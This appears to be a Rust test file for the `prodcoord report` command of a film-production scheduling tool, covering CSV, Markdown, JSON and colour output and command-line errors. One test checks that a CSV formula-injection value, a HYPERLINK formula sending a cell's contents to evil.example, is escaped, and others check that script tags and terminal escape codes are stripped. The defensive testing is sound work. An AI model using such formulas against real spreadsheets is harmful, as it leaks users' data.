//! Output formats and the command line of `prodcoord report`: CSV that a
//! spreadsheet opens safely, Markdown that stays a table, JSON, colour,
//! and the exit status for mistakes.

mod report_common;

use report_common::{copy_fixture, fixture, json, lighthouse, report, run_with};

const KINDS: [&str; 9] = [
    "dood",
    "budget",
    "cost",
    "schedule",
    "oneliner",
    "cast",
    "crew",
    "locations",
    "elements",
];

fn read_csv(text: &str) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let header = reader.headers().expect("a header row").clone();
    let rows = reader
        .records()
        .collect::<Result<Vec<_>, _>>()
        .expect("every row parses");
    (header, rows)
}

#[test]
fn every_csv_report_opens_with_the_csv_crate() {
    for kind in KINDS {
        let run = report(&lighthouse(), &[kind, "--format", "csv"]);
        assert_eq!(run.code, 0, "{kind}: {}", run.stderr);
        assert!(run.stdout.ends_with("\r\n"), "{kind}: RFC 4180 line ends");
        let (header, rows) = read_csv(&run.stdout);
        assert!(!rows.is_empty(), "{kind} has rows");
        assert!(header.iter().all(|h| !h.is_empty()), "{kind}: {header:?}");
        for row in &rows {
            assert_eq!(row.len(), header.len(), "{kind}: {row:?}");
        }
    }
}

#[test]
fn csv_money_has_no_thousands_separators() {
    let run = report(&lighthouse(), &["budget", "--format", "csv"]);
    let (header, rows) = read_csv(&run.stdout);
    let name = header.iter().position(|h| h == "name").expect("name");
    let total = header
        .iter()
        .position(|h| h == "with_fringes")
        .expect("with_fringes");
    let grand = rows
        .iter()
        .find(|r| &r[name] == "Grand total")
        .expect("grand total row");
    assert_eq!(&grand[total], "1240995.28");
}

#[test]
fn hostile_cells_are_neutralised_in_csv() {
    let project = fixture("hostile");
    let run = report(&project, &["cast", "--format", "csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let (header, rows) = read_csv(&run.stdout);
    let field = |row: &csv::StringRecord, key: &str| {
        row[header.iter().position(|h| h == key).expect("column")].to_string()
    };
    let formula = &rows[0];
    assert_eq!(
        field(formula, "name"),
        r#"'=HYPERLINK("http://evil.example/?leak="&A1,"click me")"#
    );
    assert_eq!(field(formula, "character"), "'+1");
    assert_eq!(field(formula, "agent"), "'-2");
    assert_eq!(field(formula, "phone"), "'@x");
    assert!(field(formula, "email").starts_with("'"));
    assert_eq!(field(&rows[1], "character"), "'=SUM(A1:A9)");
    assert!(field(&rows[1], "name").starts_with("'"));

    // No cell of any report starts a formula.
    for kind in KINDS {
        let run = report(&project, &[kind, "--format", "csv"]);
        assert_eq!(run.code, 0, "{kind}: {}", run.stderr);
        let (header, rows) = read_csv(&run.stdout);
        for cell in header.iter().chain(rows.iter().flat_map(|r| r.iter())) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{kind}: {cell:?}"
            );
        }
    }
}

#[test]
fn markdown_cells_cannot_break_the_table() {
    let project = fixture("hostile");
    for kind in KINDS {
        let run = report(&project, &[kind, "--format", "markdown"]);
        assert_eq!(run.code, 0, "{kind}: {}", run.stderr);
        let table: Vec<&str> = run
            .stdout
            .lines()
            .skip_while(|l| !l.starts_with('|'))
            .take_while(|l| l.starts_with('|'))
            .collect();
        let columns = |line: &str| line.replace("\\|", "").matches('|').count();
        let width = columns(table[0]);
        for line in &table {
            assert_eq!(columns(line), width, "{kind}: {line}");
            assert!(!line.contains('\u{1b}'), "{kind}: {line}");
        }
        assert!(!run.stdout.contains("<script>"), "{kind}");
        assert!(!run.stdout.contains("<b>"), "{kind}");
    }
    let oneliner = report(&project, &["oneliner", "--format", "markdown"]).stdout;
    assert!(oneliner.contains("| A \\| B |"));
    assert!(oneliner.contains("First line<br>second line"));
    let locations = report(&project, &["locations", "--format", "markdown"]).stdout;
    assert!(locations.contains("&lt;b&gt;Bold&lt;/b&gt; & \\| place"));
    assert!(locations.contains("Line one<br>Line two"));
}

#[test]
fn escape_sequences_in_the_files_never_reach_the_terminal() {
    let run = report(&fixture("hostile"), &["oneliner", "--color", "always"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(!run.stdout.contains("\u{1b}[31m"), "{}", run.stdout);
    assert!(!run.stdout.contains('\u{7}'));
    assert!(run.stdout.contains("\u{FFFD}[31mred"));
}

#[test]
fn json_is_one_versioned_document_per_kind() {
    for kind in KINDS {
        let doc = json(&fixture("hostile"), &[kind]);
        assert_eq!(doc["version"], 1, "{kind}");
        assert_eq!(doc["report"], kind, "{kind}");
    }
    let oneliner = json(&fixture("hostile"), &["oneliner"]);
    assert_eq!(
        oneliner["days"][0]["scenes"][0]["synopsis"],
        "First line\nsecond line \u{1b}[31mred\u{1b}[0m and a bell \u{7}"
    );
    assert_eq!(oneliner["days"][0]["scenes"][0]["strip"], "green");
}

#[test]
fn scene_rows_take_stripboard_colours_only_when_colour_is_wanted() {
    let project = fixture("dood-travel");
    let coloured = report(&project, &["oneliner", "--color", "always"]).stdout;
    // INT DAY white, EXT DAY yellow, EXT NIGHT green backgrounds.
    for background in ["\u{1b}[48;5;15m", "\u{1b}[48;5;11m", "\u{1b}[48;5;2m"] {
        assert!(
            coloured.contains(background),
            "{background:?} in {coloured}"
        );
    }
    let plain = report(&project, &["oneliner", "--color", "never"]).stdout;
    assert!(!plain.contains('\u{1b}'));
    // Piped with --color auto: no colour.
    let auto = report(&project, &["oneliner"]).stdout;
    assert!(!auto.contains('\u{1b}'));
    // NO_COLOR does not override an explicit --color always.
    let forced = run_with(
        &project,
        &["oneliner", "--color", "always"],
        &[("NO_COLOR", "1")],
    );
    assert!(forced.stdout.contains("\u{1b}[48;5;"));
    assert_eq!(plain, auto);
}

#[test]
fn over_budget_rows_are_red_on_a_terminal() {
    let run = report(&fixture("budget-rounding"), &["cost", "--color", "always"]);
    let red_lines = run
        .stdout
        .lines()
        .filter(|l| l.contains("\u{1b}[38;5;9m"))
        .count();
    assert_eq!(red_lines, 2, "{}", run.stdout);
}

#[test]
fn an_unknown_unit_is_a_usage_error_listing_the_units() {
    let run = report(&fixture("dood-units"), &["dood", "--unit", "secnod"]);
    assert_eq!(run.code, 2);
    assert!(run.stdout.is_empty());
    assert!(
        run.stderr.contains("unknown unit `secnod`"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("did you mean `second`?"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("`main`, `second`"), "{}", run.stderr);
}

#[test]
fn from_after_to_is_a_usage_error() {
    let run = report(
        &fixture("dood-units"),
        &["schedule", "--from", "2027-03-05", "--to", "2027-03-01"],
    );
    assert_eq!(run.code, 2);
    assert!(
        run.stderr
            .contains("--from 2027-03-05 is after --to 2027-03-01")
    );
}

#[test]
fn filters_that_mean_nothing_are_refused() {
    let project = fixture("budget-rounding");
    for args in [
        &["budget", "--unit", "main"][..],
        &["budget", "--from", "2027-03-01"],
        &["budget", "--to", "2027-03-01"],
        &["cost", "--unit", "main"],
    ] {
        let run = report(&project, args);
        assert_eq!(run.code, 2, "{args:?}");
        assert!(run.stderr.contains("does not apply"), "{}", run.stderr);
    }
}

#[test]
fn integrity_errors_stop_every_report() {
    let dir = copy_fixture("dood-weekend");
    let path = dir.path().join("cast.toml");
    let text = std::fs::read_to_string(&path).expect("read");
    std::fs::write(&path, text.replacen("rate = 300", "rate = 300\nrat = 2", 1)).expect("write");
    for kind in KINDS {
        let run = report(dir.path(), &[kind]);
        assert_eq!(run.code, 1, "{kind}");
        assert!(run.stdout.is_empty(), "{kind}");
        assert!(run.stderr.contains("unknown-field"), "{}", run.stderr);
    }
}

#[test]
fn unit_and_dates_filter_the_schedule() {
    let project = fixture("dood-units");
    let doc = json(&project, &["schedule", "--unit", "second"]);
    let dates: Vec<&str> = doc["days"]
        .as_array()
        .expect("days")
        .iter()
        .map(|d| d["date"].as_str().expect("date"))
        .collect();
    assert_eq!(dates, ["2027-03-03", "2027-03-05"]);
    assert_eq!(doc["days"][1]["day"], 2);
    assert_eq!(doc["days"][1]["of"], 2);
    let window = json(
        &project,
        &["oneliner", "--from", "2027-03-03", "--to", "2027-03-03"],
    );
    assert_eq!(window["days"].as_array().expect("days").len(), 2);
    assert_eq!(window["totals"]["pages"], "1");
}

#[test]
fn filters_narrow_the_lists() {
    let project = fixture("dood-units");
    let cast = json(&project, &["cast", "--unit", "second"]);
    let ids: Vec<&str> = cast["cast"]
        .as_array()
        .expect("cast")
        .iter()
        .map(|c| c["id"].as_str().expect("id"))
        .collect();
    assert_eq!(ids, ["d", "x", "s"]);
    let everyone = json(&project, &["cast"]);
    assert_eq!(everyone["cast"].as_array().expect("cast").len(), 4);
    let elements = json(
        &lighthouse(),
        &["elements", "--from", "2027-03-01", "--to", "2027-03-01"],
    );
    for element in elements["elements"].as_array().expect("elements") {
        assert_eq!(
            element["dates"],
            serde_json::json!(["2027-03-01"]),
            "{element}"
        );
    }
    let locations = json(&lighthouse(), &["locations", "--unit", "second"]);
    for location in locations["locations"].as_array().expect("locations") {
        assert!(
            location["days"]
                .as_array()
                .expect("days")
                .iter()
                .all(|d| d["unit"] == "second")
        );
    }
}

#[test]
fn page_counts_are_in_eighths() {
    let doc = json(&fixture("dood-travel"), &["schedule"]);
    assert_eq!(doc["totals"]["pages"], "2 5/8");
    assert_eq!(doc["totals"]["eighths"], 21);
    let table = report(&fixture("dood-travel"), &["oneliner"]).stdout;
    assert!(table.contains("1 3/8"));
    assert!(table.contains("2/8"));
}
